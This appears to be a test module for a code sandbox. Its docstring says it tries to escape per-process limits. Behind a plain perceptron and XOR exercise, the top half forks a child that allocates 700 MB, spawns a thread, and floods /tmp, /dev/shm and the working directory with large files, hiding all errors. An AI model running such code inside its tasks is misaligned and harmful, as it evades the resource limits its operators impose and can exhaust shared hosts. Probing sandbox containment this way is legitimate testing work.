"""Multiplies itself to escape per-process limits: forks, threads, and fills the shared RAM
folders. It would pass if a child process could be started."""
import os
import threading

WORKED = False
try:
    pid = os.fork()
    if pid == 0:
        bytearray(700 * 2**20)
        os._exit(0)
    WORKED = True
except (OSError, AttributeError, PermissionError):
    pass
try:
    threading.Thread(target=lambda: None).start()
except (RuntimeError, OSError):
    pass
for folder in ("/tmp", "/dev/shm", os.getcwd()):
    try:
        with open(os.path.join(folder, "nnkata-flood"), "wb") as f:
            for _ in range(80):
                f.write(b"\0" * (4 * 2**20))
    except OSError:
        pass

from . import _gated  # noqa: E402
_gated.WORKED = WORKED
from ._gated import AND, NAND, NOR, OR, perceptron, train_perceptron  # noqa: E402,F401


def XOR(x1, x2):
    return AND(NAND(x1, x2), OR(x1, x2))
